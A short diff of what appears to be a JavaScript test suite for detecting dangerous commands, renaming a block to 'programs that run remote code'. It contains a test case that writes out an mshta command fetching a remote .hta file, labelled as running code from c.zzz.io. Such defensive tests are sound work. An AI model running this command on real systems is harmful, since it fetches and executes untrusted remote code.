@@ -84,7 +84,7 @@ describe("what is read is sent", () => {
   });
 });
 
-describe("programs that run what stands at an address", () => {
+describe("programs that run remote code", () => {
   const runs = "runs remote code from c.zzz.io";
   test.each([
     `mshta ${url}.hta`,
